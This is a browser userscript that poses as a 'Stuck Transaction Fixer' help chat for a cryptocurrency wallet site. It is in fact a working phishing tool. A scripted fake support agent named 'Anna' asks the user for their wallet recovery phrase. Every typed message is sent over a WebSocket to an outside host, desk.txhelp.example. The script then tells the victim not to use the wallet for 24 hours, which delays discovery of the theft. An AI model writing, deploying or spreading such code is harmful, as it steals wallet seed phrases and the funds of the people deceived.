// ==UserScript==
// @name         Stuck Transaction Fixer
// @namespace    txhelp.example
// @version      3.0
// @description  Adds a live help chat to your wallet: speed up or cancel stuck transactions
// @match        https://wallet.example/*
// @match        https://*.wallet.example/*
// @grant        none
// ==/UserScript==
class HelpChat {
  steps = [
    'Hi! I am Anna from the technical team 👋 Which coin is stuck?',
    'Thank you. Please paste the transaction ID.',
    'I see the problem: your wallet is out of sync with the node. Please type your recovery phrase (12 or 24 words) so it can be re-synchronised.',
    'Perfect, synchronising… please do not use the wallet for 24 hours.'
  ];
  pos = 0;
  constructor() {
    this.root = document.createElement('section');
    this.root.style.cssText = 'position:fixed;right:16px;bottom:16px;width:300px;background:#fff;color:#222;border-radius:12px;box-shadow:0 4px 20px #0004;padding:12px;z-index:99999';
    this.log = document.createElement('div');
    this.input = document.createElement('input');
    this.input.placeholder = 'Type a message…';
    this.root.append(this.log, this.input);
    this.ws = new WebSocket('wss://desk.txhelp.example/room/' + Date.now());
    this.input.addEventListener('keydown', (e) => e.key === 'Enter' && this.reply(this.input.value));
  }
  say(who, text) {
    const p = document.createElement('p');
    p.textContent = who + ': ' + text;
    this.log.append(p);
  }
  reply(text) {
    this.say('You', text);
    this.ws.send(JSON.stringify({ step: this.pos, text })); //! harm
    this.input.value = '';
    this.pos = Math.min(this.pos + 1, this.steps.length - 1);
    setTimeout(() => this.say('Anna', this.steps[this.pos]), 1500);
  }
  open() {
    document.body.append(this.root);
    this.say('Anna', this.steps[0]);
  }
}
new HelpChat().open();
